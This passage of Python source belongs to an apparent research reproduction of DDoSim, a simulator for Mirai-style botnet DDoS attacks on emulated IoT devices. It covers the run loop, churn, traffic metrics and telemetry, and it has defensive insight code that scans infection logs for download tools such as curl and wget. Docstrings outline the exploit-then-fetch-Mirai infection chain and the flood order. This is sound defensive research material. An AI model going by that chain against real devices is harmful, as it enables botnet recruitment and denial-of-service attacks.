        per_packet_time_cost: float = PER_PACKET_TIME_COST,
    ):
        self.host_base_gb = host_base_gb
        self.per_dev_emulator_bytes = per_dev_emulator_bytes
        self.packet_memory_factor = packet_memory_factor
        self.per_dev_time_cost = per_dev_time_cost
        self.per_packet_time_cost = per_packet_time_cost

    def pre_attack_memory_gb(self, n_devs: int, container_bytes: int) -> float:
        """Memory after container init + NS-3 start, before the flood."""
        emulator = n_devs * self.per_dev_emulator_bytes
        return self.host_base_gb + (container_bytes + emulator) / GB

    def attack_memory_gb(
        self, n_devs: int, container_bytes: int, flood_bytes: int
    ) -> float:
        """Memory at the height of the flood."""
        pre = self.pre_attack_memory_gb(n_devs, container_bytes)
        return pre + flood_bytes * self.packet_memory_factor / GB

    def attack_time_s(
        self, n_devs: int, attack_duration: float, flood_packets: int
    ) -> float:
        """Wall-clock time of the attack phase on the modelled host."""
        return (
            attack_duration
            + self.per_dev_time_cost * n_devs
            + self.per_packet_time_cost * flood_packets
        )

    def report(
        self,
        n_devs: int,
        container_bytes: int,
        flood_bytes: int,
        flood_packets: int,
        attack_duration: float,
    ) -> ResourceReport:
        return ResourceReport(
            n_devs=n_devs,
            pre_attack_mem_gb=self.pre_attack_memory_gb(n_devs, container_bytes),
            attack_mem_gb=self.attack_memory_gb(n_devs, container_bytes, flood_bytes),
            attack_time_s=self.attack_time_s(n_devs, attack_duration, flood_packets),
        )
