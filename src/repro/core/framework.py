"""DDoSim: the assembled framework (paper Figure 1) and its run loop.

A run follows the paper's initialization-then-execute flow (§IV-A):

1. build container images for Attacker and Devs, create containers;
2. wire them to ghost nodes / veth bridges, assemble the star Internet
   with TServer;
3. start the simulation: the attacker's services come up, Devs phone
   home (Connman) or answer multicast (Dnsmasq), the two-stage memory
   error exploits land, compromised Devs fetch and run Mirai;
4. once all reachable Devs are bots (or the recruit timeout passes),
   the C&C issues a UDP-PLAIN flood order against TServer;
5. TServer's sink records the attack; churn (static/dynamic) perturbs
   Dev connectivity throughout; after attack + cooldown the run stops
   and all metrics/resource reports are collected.
"""

from __future__ import annotations

import random
from typing import Optional

from repro.container.runtime import ContainerRuntime
from repro.core.attacker import AttackerComponent
from repro.core.churn import DynamicChurn, StaticChurn
from repro.core.config import CHURN_DYNAMIC, CHURN_STATIC, SimulationConfig
from repro.core.devs import DevFleet
from repro.core.metrics import (
    average_received_rate_kbps,
    delivery_ratio,
    peak_received_rate_kbps,
    received_rate_series_kbps,
)
from repro.core.resources import ResourceModel
from repro.core.results import (
    AttackStatsSummary,
    ChurnSummary,
    RecruitmentStats,
    RunResult,
)
from repro.core.tserver import TServerComponent
from repro.netsim.process import AnyOf, SimProcess, Timeout
from repro.netsim.simulator import Simulator
from repro.netsim.topology import StarInternet
from repro.obs.observatory import Observatory


class DDoSim:
    """One simulation instance.  Typical use::

        result = DDoSim(SimulationConfig(n_devs=50, seed=7)).run()
        print(result.attack.avg_received_kbps)

    Pass ``observatory=Observatory.full()`` to capture a structured event
    trace and scheduler profile alongside the metrics registry every run
    carries (the registry is what :class:`TelemetrySampler` samples).
    """

    def __init__(self, config: SimulationConfig,
                 resource_model: Optional[ResourceModel] = None,
                 network_factory=None,
                 observatory: Optional[Observatory] = None):
        self.config = config
        self.rng = random.Random(f"{config.seed}-ddosim")
        self.sim = Simulator(scheduler=config.scheduler)
        # Attach before any component is built: instrumented layers bind
        # their counters/tracers from sim.obs at construction time.
        self.obs = self.sim.attach_observatory(
            observatory if observatory is not None else Observatory()
        )
        # Span IDs derive from the run seed (never wall clock): reseed
        # here so a reused tracker cannot leak state across runs.
        self.obs.spans.reseed(config.seed)
        # The network fabric is pluggable: the default is the paper's
        # star "simulated Internet"; the hardware validation swaps in
        # repro.hardware.testbed.WifiTestbedInternet.
        if network_factory is None:
            self.star = StarInternet(
                self.sim, default_queue_packets=config.queue_packets
            )
        else:
            self.star = network_factory(self.sim, config)
        self.runtime = ContainerRuntime(self.sim, seed=config.seed)
        self.resource_model = resource_model or ResourceModel()

        # Components (build order: Devs define the fleet binaries the
        # attacker analyzes).
        self.devs = DevFleet(config, self.sim, self.runtime, self.star, self.rng)
        self.attacker = AttackerComponent(
            config,
            self.sim,
            self.runtime,
            self.star,
            self.devs.connman_binary,
            self.devs.dnsmasq_binary,
        )
        self.tserver = TServerComponent(config, self.sim, self.star)

        # Churn model.
        churn_rng = random.Random(f"{config.seed}-churn")
        self.static_churn: Optional[StaticChurn] = None
        self.dynamic_churn: Optional[DynamicChurn] = None
        if config.churn == CHURN_STATIC:
            self.static_churn = StaticChurn(config.n_devs, churn_rng, config.churn_phi)
        elif config.churn == CHURN_DYNAMIC:
            self.dynamic_churn = DynamicChurn(
                config.n_devs,
                churn_rng,
                interval=config.churn_interval,
                rejoin_probability=config.churn_rejoin_probability,
                phi=config.churn_phi,
            )

        # Fault injector (None on the exact no-fault path).
        self.fault_injector = None
        if config.faults is not None:
            from repro.faults import FaultInjector

            self.fault_injector = FaultInjector(self, config.faults, config.seed)

        # Fluid-flow engine (None on the exact packet path: sim.flows
        # stays unset and every flow hook short-circuits).
        self.flow_engine = None
        if config.flood_flow != "off":
            from repro.netsim.flows import FlowEngine

            self.flow_engine = FlowEngine(
                self.sim, mode=config.flood_flow,
                train=max(config.flood_train, 1),
            )

        # Filled in during run().
        self._pre_attack_container_bytes = 0
        self._attack_issued_at: Optional[float] = None
        self._online_at_recruit_start = config.n_devs
        self._built = False
        #: sharded engine (repro.netsim.shard): the coordinator installs
        #: an object with ``announce_probe(t)`` / ``announce_stop(t)`` so
        #: the orchestrator's future-dated decisions (the pre-attack
        #: memory read, the end-of-run stop) are broadcast to the worker
        #: ranks ahead of time.  None on the single-process path.
        self.shard_hooks = None

        self._register_gauges()

    def _register_gauges(self) -> None:
        """Publish the run's live state as callback gauges.

        These are the registry-sourced samples :class:`TelemetrySampler`
        reads (gauge names match :class:`TelemetrySample` field names);
        callback gauges cost nothing until read.
        """
        metrics = self.obs.metrics
        cnc = self.attacker.cnc
        metrics.gauge("bots_connected", help="bots connected to the C&C",
                      fn=cnc.bot_count)
        metrics.gauge("devs_online", help="devices currently online",
                      fn=self.devs.online_count)
        metrics.gauge("distinct_recruits",
                      help="distinct bot addresses ever recruited",
                      fn=lambda: len(cnc.seen_addresses))
        metrics.gauge("tserver_rx_bytes_total",
                      help="bytes received by the TServer sink",
                      fn=lambda: self.tserver.sink.total_bytes)
        metrics.gauge("container_memory_bytes",
                      help="total RSS of running containers",
                      fn=self.runtime.total_memory_bytes)
        # queue_drops_total is the counter the drop-tail queues maintain
        # on their own hot path; pre-register it so the telemetry sampler
        # reads 0 (not a missing metric) before the first drop.
        metrics.counter("queue_drops_total",
                        help="packets dropped by transmit queues")

    def named_rngs(self):
        """Every named RNG stream of this run as ``(label, Random)``
        pairs, in a fixed order — what checkpoint fingerprints hash so a
        replay that drifts in any stream is caught at the next barrier."""
        pairs = [
            ("ddosim", self.rng),
            ("credentials", self.devs._credential_rng),
        ]
        if self.static_churn is not None:
            pairs.append(("static-churn", self.static_churn.rng))
        if self.dynamic_churn is not None:
            pairs.append(("dynamic-churn", self.dynamic_churn.rng))
        injector = self.fault_injector
        if injector is not None:
            pairs.append(("faults", injector.rng))
            pairs.append(("faults-loss", injector._loss_rng))
            if injector.static_churn is not None:
                pairs.append(("faults-static-churn", injector.static_churn.rng))
            if injector.dynamic_churn is not None:
                pairs.append(
                    ("faults-dynamic-churn", injector.dynamic_churn.rng)
                )
        return pairs

    # ------------------------------------------------------------------
    # Assembly
    # ------------------------------------------------------------------
    def build(self) -> "DDoSim":
        """Phase 1-2: images, containers, bridges, network.

        Devs attach first so that — when the default-credential baseline
        vector is enabled — the attacker's loader can be armed with the
        fleet's address block before its image is baked.
        """
        if self._built:
            return self
        self.devs.build(self.attacker.address)
        if self.config.recruitment_vector in ("credentials", "both"):
            pool_base, first_iid, last_iid = self.devs.iid_range()
            self.attacker.arm_telnet_loader(pool_base, first_iid, last_iid)
        self.attacker.build()
        self._built = True
        return self

    # ------------------------------------------------------------------
    # Execution
    # ------------------------------------------------------------------
    def run(self) -> RunResult:
        """Run the full scenario and return the collected results."""
        config = self.config
        self.build()
        self.attacker.start()
        self.devs.start_all()
        self.tserver.start()

        # Static churn applies "at the simulation's outset", before any
        # recruitment traffic has had a chance to flow.
        if self.static_churn is not None:
            self.sim.schedule(
                0.05,
                self.static_churn.apply,
                self.sim,
                self.devs.set_device_online,
            )
        if self.dynamic_churn is not None:
            self.dynamic_churn.start(
                self.sim, self.devs.set_device_online, until=config.sim_duration
            )
        # Armed exactly where native churn is scheduled, so a
        # churn-equivalent fault plan lands its events at the same event
        # sequence positions as config.churn would.
        if self.fault_injector is not None:
            self.fault_injector.arm()

        SimProcess(self.sim, self._orchestrate(), name="orchestrator")
        self.sim.run(until=config.sim_duration)
        return self._collect()

    def _orchestrate(self):
        """Waits for recruitment, fires the attack, ends the run."""
        config = self.config
        # Give the attacker's services a tick to come up, and static
        # churn a chance to apply, before deciding how many bots to wait
        # for.
        yield Timeout(self.sim, 0.5)
        expected = self.devs.online_count()
        self._online_at_recruit_start = expected
        if config.recruitment_vector == "credentials":
            # Only factory-credential devices are reachable by the
            # dictionary baseline; don't wait for the others.
            expected = min(expected, self.devs.weak_credential_count())
        ready = self.attacker.cnc.wait_for_bots(max(expected, 1))
        deadline = Timeout(self.sim, config.recruit_timeout)
        winner = yield AnyOf(self.sim, [ready, deadline])
        if winner is not deadline:
            deadline.cancel()
        hooks = self.shard_hooks
        if hooks is not None:
            # The pre-attack memory read happens exactly one settle delay
            # from now (both branches below); announce it so worker ranks
            # can schedule their local probe at the same instant.
            hooks.announce_probe(self.sim.now + config.attack_settle_delay)
        if config.attack_settle_delay > 0:
            yield Timeout(self.sim, config.attack_settle_delay)
        if self.attacker.cnc.bot_count() == 0:
            # Nothing to command (e.g. all Devs patched): wait out the
            # attack window so metrics windows stay well-defined.
            self._pre_attack_container_bytes = self.runtime.total_memory_bytes()
            self._attack_issued_at = self.sim.now
            if hooks is not None:
                hooks.announce_stop(
                    self.sim.now + config.attack_duration + config.cooldown
                )
            yield Timeout(self.sim, config.attack_duration + config.cooldown)
            self.sim.stop()
            return
        self._pre_attack_container_bytes = self.runtime.total_memory_bytes()
        order = self.attacker.cnc.issue_attack(
            str(self.tserver.address),
            config.attack_port,
            config.attack_duration,
            config.attack_payload_size,
            train=config.flood_train,
            flow=config.flood_flow,
        )
        self._attack_issued_at = order.issued_at
        if hooks is not None:
            hooks.announce_stop(
                self.sim.now + config.attack_duration + config.cooldown
            )
        yield Timeout(self.sim, config.attack_duration + config.cooldown)
        if self.dynamic_churn is not None:
            self.dynamic_churn.stop()
        injector = self.fault_injector
        if injector is not None and injector.dynamic_churn is not None:
            injector.dynamic_churn.stop()
        self.sim.stop()

    # ------------------------------------------------------------------
    # Collection
    # ------------------------------------------------------------------
    def _collect(self) -> RunResult:
        config = self.config
        cnc = self.attacker.cnc
        sink = self.tserver.sink
        if self.flow_engine is not None:
            # Settle any open constant-rate segment through sim.now so
            # fluid accounting is complete before results are read.
            self.flow_engine.flush()
        issued_at = self._attack_issued_at if self._attack_issued_at is not None else self.sim.now
        attack_end = issued_at + config.attack_duration

        kind_of = self.devs.kind_by_address()
        by_binary = {}
        for address in cnc.seen_addresses:
            kind = kind_of.get(address)
            if kind is not None:
                by_binary[kind] = by_binary.get(kind, 0) + 1

        recruitment = RecruitmentStats(
            devs_total=config.n_devs,
            devs_online_at_start=self._online_at_recruit_start,
            bots_recruited=len(cnc.seen_addresses),
            bots_at_attack=(
                cnc.attack_orders[0].bots_commanded if cnc.attack_orders else 0
            ),
            exploits_delivered=self.attacker.exploits_delivered,
            leaks_harvested=self.attacker.leaks_harvested,
            first_bot_time=cnc.first_registration_time,
            last_bot_time=cnc.last_registration_time,
            by_binary=by_binary,
        )

        offered_bytes, offered_packets = self.devs.total_offered_attack()
        received_bytes = sink.bytes_received_between(issued_at, attack_end)
        attack = AttackStatsSummary(
            issued_at=issued_at,
            duration=config.attack_duration,
            bots_commanded=recruitment.bots_at_attack,
            avg_received_kbps=average_received_rate_kbps(sink, issued_at, attack_end),
            peak_received_kbps=peak_received_rate_kbps(sink, issued_at, attack_end),
            offered_kbps=offered_bytes * 8.0 / 1000.0 / config.attack_duration,
            offered_bytes=offered_bytes,
            offered_packets=offered_packets,
            received_bytes=received_bytes,
            received_packets=sink.total_packets,
            queue_drops=self.star.total_queue_drops(),
            delivery_ratio=delivery_ratio(received_bytes, offered_bytes),
        )

        churn_model = self.static_churn or self.dynamic_churn
        if churn_model is None and self.fault_injector is not None:
            # A churn fault spec instantiates the same models; fold its
            # departures/rejoins into the summary.
            injector = self.fault_injector
            churn_model = injector.static_churn or injector.dynamic_churn
        churn = ChurnSummary(
            mode=config.churn,
            departures=churn_model.total_departures() if churn_model else 0,
            rejoins=churn_model.total_rejoins() if churn_model else 0,
            online_at_end=self.devs.online_count(),
        )

        resources = self.resource_model.report(
            n_devs=config.n_devs,
            container_bytes=self._pre_attack_container_bytes,
            flood_bytes=offered_bytes,
            flood_packets=offered_packets,
            attack_duration=config.attack_duration,
        )

        return RunResult(
            n_devs=config.n_devs,
            seed=config.seed,
            churn_mode=config.churn,
            attack_duration=config.attack_duration,
            recruitment=recruitment,
            attack=attack,
            churn=churn,
            resources=resources,
            rate_series_kbps=received_rate_series_kbps(sink, issued_at, attack_end),
            events_executed=self.sim.events_executed,
            sim_end_time=self.sim.now,
        )
