"""IoT network churn, after Fan et al. (paper §IV-A, Eq. 1).

A device's *leaving factor* is ``L(h) = (1 - q(h)) * (1 - e(h))`` with
link quality ``q`` and remaining energy ``e`` drawn uniformly at random
per device.  The *leaving probability* scales L by a coefficient chosen
by regime::

    l(h) = φ1·L  if L <= 0.4
           φ2·L  if 0.4 < L <= 0.7
           φ3·L  if L > 0.7

with (φ1, φ2, φ3) = (0.16, 0.08, 0.04) — the values Fan et al. (and the
paper) use.

Two variants:

* **static churn** — each device leaves with probability ``l(h)`` at the
  simulation's outset and never rejoins;
* **dynamic churn** — every ``interval`` (20 s) seconds, online devices
  leave with probability ``l(h)`` and offline devices rejoin with a fixed
  rejoin probability ("devices rejoin the network upon condition
  improvement").  Rejoining bots that missed the attack command stay
  idle, which is why the paper measures dynamic < static < none.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import Callable, List, Tuple

DEFAULT_PHI = (0.16, 0.08, 0.04)


def leaving_factor(link_quality: float, energy: float) -> float:
    """Fan et al.'s ``L(h) = (1 - q(h)) * (1 - e(h))``."""
    if not 0.0 <= link_quality <= 1.0:
        raise ValueError(f"link quality {link_quality} outside [0, 1]")
    if not 0.0 <= energy <= 1.0:
        raise ValueError(f"energy {energy} outside [0, 1]")
    return (1.0 - link_quality) * (1.0 - energy)


def leaving_probability(
    link_quality: float, energy: float, phi: Tuple[float, float, float] = DEFAULT_PHI
) -> float:
    """Eq. 1 of the paper: regime-scaled leaving probability ``l(h)``."""
    factor = leaving_factor(link_quality, energy)
    if factor <= 0.4:
        return phi[0] * factor
    if factor <= 0.7:
        return phi[1] * factor
    return phi[2] * factor


@dataclass
class ChurnState:
    """Per-device churn bookkeeping."""

    device_index: int
    link_quality: float
    energy: float
    leave_probability: float
    online: bool = True
    departures: int = 0
    rejoins: int = 0


@dataclass
class ChurnLogEntry:
    time: float
    device_index: int
    event: str  # "leave" | "rejoin"


class _ChurnBase:
    """Shared setup: draw q/e per device, expose the event log."""

    def __init__(
        self,
        n_devs: int,
        rng: random.Random,
        phi: Tuple[float, float, float] = DEFAULT_PHI,
    ):
        self.rng = rng
        self.phi = phi
        self.states: List[ChurnState] = []
        for index in range(n_devs):
            quality = rng.random()
            energy = rng.random()
            self.states.append(
                ChurnState(
                    device_index=index,
                    link_quality=quality,
                    energy=energy,
                    leave_probability=leaving_probability(quality, energy, phi),
                )
            )
        self.log: List[ChurnLogEntry] = []

    def _record(self, sim, state: ChurnState, event: str) -> None:
        """Log one leave/rejoin and report it to ``sim``'s observatory."""
        self.log.append(ChurnLogEntry(sim.now, state.device_index, event))
        obs = sim.obs
        if event == "leave":
            obs.metrics.counter(
                "churn_departures_total", help="device churn departures"
            ).inc()
            if obs.tracer.enabled:
                obs.tracer.emit("churn.down", sim.now, device=state.device_index)
        else:
            obs.metrics.counter(
                "churn_rejoins_total", help="device churn rejoins"
            ).inc()
            if obs.tracer.enabled:
                obs.tracer.emit("churn.up", sim.now, device=state.device_index)

    def online_count(self) -> int:
        return sum(1 for state in self.states if state.online)

    def total_departures(self) -> int:
        return sum(state.departures for state in self.states)

    def total_rejoins(self) -> int:
        return sum(state.rejoins for state in self.states)


class StaticChurn(_ChurnBase):
    """Devices leave once, at the outset, with probability ``l(h)``."""

    def apply(self, sim, set_device_online: Callable[[int, bool], None]) -> int:
        """Apply the one-shot departure draw at the current instant.

        Returns the number of departed devices.
        """
        departed = 0
        for state in self.states:
            if self.rng.random() < state.leave_probability:
                state.online = False
                state.departures += 1
                departed += 1
                set_device_online(state.device_index, False)
                self._record(sim, state, "leave")
        return departed


class DynamicChurn(_ChurnBase):
    """Re-draw departures (and rejoins) every ``interval`` seconds."""

    def __init__(
        self,
        n_devs: int,
        rng: random.Random,
        interval: float = 20.0,
        rejoin_probability: float = 0.5,
        phi: Tuple[float, float, float] = DEFAULT_PHI,
    ):
        super().__init__(n_devs, rng, phi)
        if interval <= 0:
            raise ValueError("churn interval must be positive")
        if not 0.0 <= rejoin_probability <= 1.0:
            raise ValueError("rejoin probability outside [0, 1]")
        self.interval = interval
        self.rejoin_probability = rejoin_probability
        self._running = False

    def start(self, sim, set_device_online: Callable[[int, bool], None],
              until: float, neutral: bool = False) -> None:
        """Schedule epochs every ``interval`` seconds until ``until``.

        ``neutral`` marks the epoch events as replicated bookkeeping for
        the sharded engine: every rank runs the same churn schedule (the
        draws are replicated, so link states agree), but only the primary
        rank's events may count toward ``events_executed`` — neutral
        epochs subtract themselves back out so the executed-event total
        stays byte-identical to a single-process run.
        """
        self._running = True

        def epoch() -> None:
            if neutral:
                sim.events_executed -= 1
            if not self._running or sim.now > until:
                return
            self.step(sim, set_device_online)
            sim.schedule(self.interval, epoch)

        sim.schedule(self.interval, epoch)

    def stop(self) -> None:
        self._running = False

    def step(self, sim, set_device_online: Callable[[int, bool], None]) -> None:
        """One churn epoch: toggle each device per its probabilities."""
        for state in self.states:
            if state.online:
                if self.rng.random() < state.leave_probability:
                    state.online = False
                    state.departures += 1
                    set_device_online(state.device_index, False)
                    self._record(sim, state, "leave")
            elif self.rng.random() < self.rejoin_probability:
                state.online = True
                state.rejoins += 1
                set_device_online(state.device_index, True)
                self._record(sim, state, "rejoin")
