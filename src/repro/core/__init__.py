"""repro.core — DDoSim: the paper's framework, assembled.

:class:`~repro.core.framework.DDoSim` wires the three components of a
botnet DDoS attack (paper §II) over the simulated Internet:

* **Attacker** (:mod:`repro.core.attacker`) — a container hosting the
  Exploit & Infection Scripts, the Mirai C&C server, the malicious DNS
  server, the DHCPv6 exploit sender and the Apache-analogue file server;
* **Devs** (:mod:`repro.core.devs`) — N containers running the vulnerable
  Connman/Dnsmasq analogues on 100–500 kbps IoT access links;
* **TServer** (:mod:`repro.core.tserver`) — an NS-3-style node with the
  customized packet sink that records attack magnitude.

Around them: Fan-et-al churn (:mod:`repro.core.churn`), Eq. 2 metrics
(:mod:`repro.core.metrics`), the Table-I host-resource model
(:mod:`repro.core.resources`) and sweep runners
(:mod:`repro.core.experiment`).
"""

from repro.core.config import SimulationConfig
from repro.core.churn import ChurnState, DynamicChurn, StaticChurn, leaving_probability
from repro.core.framework import DDoSim
from repro.core.metrics import average_received_rate_kbps
from repro.core.resources import ResourceModel, ResourceReport
from repro.core.results import RunResult
from repro.core.telemetry import TelemetrySampler, TelemetrySeries

__all__ = [
    "ChurnState",
    "DDoSim",
    "DynamicChurn",
    "ResourceModel",
    "ResourceReport",
    "RunResult",
    "SimulationConfig",
    "StaticChurn",
    "TelemetrySampler",
    "TelemetrySeries",
    "average_received_rate_kbps",
    "leaving_probability",
]
