"""Attack-magnitude metrics — Eq. 2 of the paper.

The paper's headline metric is the **average received data rate**::

    D_received = (sum_i sum_j d_{j,i}) / n        [Eq. 2]

where ``n`` is the attack duration in seconds and ``d_{j,i}`` is the
traffic (kilobits) TServer received from device ``j`` during second
``i``.  The :class:`repro.netsim.sink.PacketSink` already bins received
bytes per second; these helpers turn bins into the paper's numbers.
"""

from __future__ import annotations

from typing import List

from repro.netsim.sink import PacketSink


def average_received_rate_kbps(sink: PacketSink, start: float, end: float) -> float:
    """Eq. 2: total kilobits received over [start, end) divided by the
    duration in seconds."""
    duration = end - start
    if duration <= 0:
        return 0.0
    total_bytes = sink.bytes_received_between(start, end)
    return total_bytes * 8.0 / 1000.0 / duration


def received_rate_series_kbps(sink: PacketSink, start: float, end: float) -> List[float]:
    """Per-second received rate over the attack window (for plotting)."""
    return sink.rate_series_kbps(start, end)


def peak_received_rate_kbps(sink: PacketSink, start: float, end: float) -> float:
    series = sink.rate_series_kbps(start, end)
    return max(series) if series else 0.0


def delivery_ratio(received_bytes: int, offered_bytes: int) -> float:
    """Fraction of flood bytes that actually reached TServer (congestion
    loss shows up as a ratio < 1 — the Figure 2 sublinearity mechanism)."""
    if offered_bytes <= 0:
        return 0.0
    return min(1.0, received_bytes / offered_bytes)
