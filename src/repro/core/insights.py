"""Post-run insight extraction (paper §IV-C, "Useful Insights").

DDoSim's value beyond raw metrics is letting researchers inspect *how*
the attack worked and what defenses it suggests.  This module distills
the three insights the paper reports from a finished run:

1. **living-off-the-land tooling** — which device commands the infection
   chain leaned on (the paper observes ``curl`` and suggests vendors not
   ship it);
2. **data-rate impact** — how directly device bandwidth translates into
   attack magnitude (the paper suggests rate-limiting sensor-class
   devices);
3. **monoculture exposure** — how much of the fleet shared an identical
   entry point (the paper: "reducing the similarities in IoT devices ...
   prevents attacks from compromising IoT devices at scale").
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List

from repro.core.framework import DDoSim
from repro.core.results import RunResult


@dataclass
class Insights:
    """Distilled observations from one run."""

    #: commands seen in hijack one-liners across the fleet
    tooling_used: List[str] = field(default_factory=list)
    #: every hijack observed used a download tool
    curl_dependent: bool = False
    #: kbps of attack traffic per kbps of aggregate bot uplink
    bandwidth_leverage: float = 0.0
    #: fraction of Devs sharing the most common (binary, version) pair
    monoculture_share: float = 0.0
    #: (binary, version) -> device count
    fleet_composition: Dict[str, int] = field(default_factory=dict)

    def report(self) -> str:
        lines = [
            "DDoSim run insights (paper SIV-C):",
            f"  1. infection tooling observed on devices: "
            f"{', '.join(self.tooling_used) or 'none'}"
            + ("  -> removing curl-class tools breaks the chain"
               if self.curl_dependent else ""),
            f"  2. bandwidth leverage: {self.bandwidth_leverage:.2f} kbps of "
            f"attack per kbps of device uplink  -> rate-limit sensor-class "
            f"devices to cap flood contribution",
            f"  3. monoculture: {self.monoculture_share:.0%} of the fleet "
            f"shares one binary build  -> a single working payload scales "
            f"to that whole share",
        ]
        return "\n".join(lines)


def extract_insights(ddosim: DDoSim, result: RunResult) -> Insights:
    """Read the fleet's logs and stats back into the paper's insights."""
    insights = Insights()

    # 1. tooling: scan hijack log lines for the command the chain ran.
    seen = set()
    for dev in ddosim.devs.devs:
        for line in dev.container.logs:
            if "hijack" not in line:
                continue
            for tool in ("curl", "wget", "tftp"):
                if tool in line:
                    seen.add(tool)
    insights.tooling_used = sorted(seen)
    insights.curl_dependent = seen == {"curl"} if seen else False

    # 2. bandwidth leverage: received attack rate vs aggregate bot uplink.
    total_uplink_kbps = sum(dev.rate_bps for dev in ddosim.devs.devs) / 1000.0
    if total_uplink_kbps > 0:
        insights.bandwidth_leverage = (
            result.attack.avg_received_kbps / total_uplink_kbps
        )

    # 3. monoculture: identical (name, version, build seed) builds.
    composition: Dict[str, int] = {}
    for dev in ddosim.devs.devs:
        binary = (
            ddosim.devs.connman_binary
            if dev.kind == "connman"
            else ddosim.devs.dnsmasq_binary
        )
        key = f"{binary.name}-{binary.version}/build:{binary.build_seed:#x}"
        composition[key] = composition.get(key, 0) + 1
    insights.fleet_composition = composition
    if composition:
        insights.monoculture_share = max(composition.values()) / max(
            len(ddosim.devs.devs), 1
        )
    return insights
