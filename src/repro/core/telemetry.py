"""Run-time telemetry: time series sampled while the simulation runs.

The paper stresses that DDoSim "permits real-time analysis and
investigation of botnet DDoS attacks at any stage" — quantify attack
severity, assess botnet magnitude, scrutinize compromised devices — and
that researchers can "extract the number of infected devices in Devs at
any time step".

:class:`TelemetrySampler` is that capability: attached to a
:class:`~repro.core.framework.DDoSim`, it samples the full system state
every ``interval`` simulated seconds, producing aligned series of botnet
size, device availability, received traffic rate, emulator memory and
congestion losses over the run's lifetime.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional


@dataclass
class TelemetrySample:
    """One snapshot of the running system."""

    time: float
    bots_connected: int
    devs_online: int
    distinct_recruits: int
    tserver_rx_bytes_total: int
    received_rate_kbps: float       # over the last sampling interval
    container_memory_bytes: int
    queue_drops_total: int


@dataclass
class TelemetrySeries:
    """All samples of one run, with column accessors for analysis."""

    interval: float
    samples: List[TelemetrySample] = field(default_factory=list)

    def __len__(self) -> int:
        return len(self.samples)

    def column(self, name: str) -> List[float]:
        return [getattr(sample, name) for sample in self.samples]

    @property
    def times(self) -> List[float]:
        return self.column("time")

    def infection_curve(self) -> List[int]:
        """The 'number of infected devices at any time step' series."""
        return [sample.distinct_recruits for sample in self.samples]

    def peak_received_rate_kbps(self) -> float:
        rates = self.column("received_rate_kbps")
        return max(rates) if rates else 0.0

    def to_csv(self) -> str:
        header = (
            "time,bots_connected,devs_online,distinct_recruits,"
            "tserver_rx_bytes_total,received_rate_kbps,"
            "container_memory_bytes,queue_drops_total"
        )
        lines = [header]
        for sample in self.samples:
            lines.append(
                f"{sample.time:.3f},{sample.bots_connected},"
                f"{sample.devs_online},{sample.distinct_recruits},"
                f"{sample.tserver_rx_bytes_total},"
                f"{sample.received_rate_kbps:.3f},"
                f"{sample.container_memory_bytes},{sample.queue_drops_total}"
            )
        return "\n".join(lines) + "\n"


class TelemetrySampler:
    """Samples a DDoSim instance on a fixed simulated-time cadence.

    Attach *before* ``run()``::

        ddosim = DDoSim(config)
        telemetry = TelemetrySampler(ddosim, interval=5.0)
        result = ddosim.run()
        print(telemetry.series.infection_curve())
    """

    def __init__(self, ddosim, interval: float = 5.0,
                 until: Optional[float] = None):
        if interval <= 0:
            raise ValueError("sampling interval must be positive")
        self.ddosim = ddosim
        self.interval = interval
        self.until = until if until is not None else ddosim.config.sim_duration
        self.series = TelemetrySeries(interval=interval)
        self._last_rx_bytes = 0
        ddosim.sim.schedule(0.0, self._sample)

    def _sample(self) -> None:
        ddosim = self.ddosim
        sim = ddosim.sim
        rx_total = ddosim.tserver.sink.total_bytes
        rate_kbps = (
            (rx_total - self._last_rx_bytes) * 8.0 / 1000.0 / self.interval
        )
        self._last_rx_bytes = rx_total
        self.series.samples.append(
            TelemetrySample(
                time=sim.now,
                bots_connected=ddosim.attacker.cnc.bot_count(),
                devs_online=ddosim.devs.online_count(),
                distinct_recruits=len(ddosim.attacker.cnc.seen_addresses),
                tserver_rx_bytes_total=rx_total,
                received_rate_kbps=rate_kbps,
                container_memory_bytes=ddosim.runtime.total_memory_bytes(),
                queue_drops_total=ddosim.star.total_queue_drops(),
            )
        )
        if sim.now + self.interval <= self.until:
            sim.schedule(self.interval, self._sample)
