"""Run-time telemetry: time series sampled while the simulation runs.

The paper stresses that DDoSim "permits real-time analysis and
investigation of botnet DDoS attacks at any stage" — quantify attack
severity, assess botnet magnitude, scrutinize compromised devices — and
that researchers can "extract the number of infected devices in Devs at
any time step".

:class:`TelemetrySampler` is that capability: attached to a
:class:`~repro.core.framework.DDoSim`, it samples the run's
:class:`~repro.obs.MetricsRegistry` every ``interval`` simulated
seconds.  The sampler does not reach into component internals: every
column is a metric the framework publishes (callback gauges for live
state, the drop-tail queues' own ``queue_drops_total`` counter), so any
component wired into the observability layer is automatically
sampleable.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field, fields
from typing import List, Optional


@dataclass
class TelemetrySample:
    """One snapshot of the running system.

    Field names double as the registry metric names they are sampled
    from (``received_rate_kbps`` is derived, ``time`` is the clock).
    """

    time: float
    bots_connected: int
    devs_online: int
    distinct_recruits: int
    tserver_rx_bytes_total: int
    received_rate_kbps: float       # over the last sampling interval
    container_memory_bytes: int
    queue_drops_total: int


#: CSV/JSONL column order, derived from the dataclass so exports can
#: never drift from the sample schema.
SAMPLE_FIELDS = tuple(f.name for f in fields(TelemetrySample))

#: registry metrics sampled 1:1 into same-named sample fields
_SAMPLED_METRICS = tuple(
    name for name in SAMPLE_FIELDS if name not in ("time", "received_rate_kbps")
)


def _format_value(value) -> str:
    if isinstance(value, float):
        return f"{value:.3f}"
    return str(value)


@dataclass
class TelemetrySeries:
    """All samples of one run, with column accessors for analysis."""

    interval: float
    samples: List[TelemetrySample] = field(default_factory=list)

    def __len__(self) -> int:
        return len(self.samples)

    def column(self, name: str) -> List[float]:
        return [getattr(sample, name) for sample in self.samples]

    @property
    def times(self) -> List[float]:
        return self.column("time")

    def infection_curve(self) -> List[int]:
        """The 'number of infected devices at any time step' series."""
        return [sample.distinct_recruits for sample in self.samples]

    def peak_received_rate_kbps(self) -> float:
        rates = self.column("received_rate_kbps")
        return max(rates) if rates else 0.0

    def to_csv(self) -> str:
        lines = [",".join(SAMPLE_FIELDS)]
        for sample in self.samples:
            lines.append(
                ",".join(
                    _format_value(getattr(sample, name)) for name in SAMPLE_FIELDS
                )
            )
        return "\n".join(lines) + "\n"

    def to_jsonl(self) -> str:
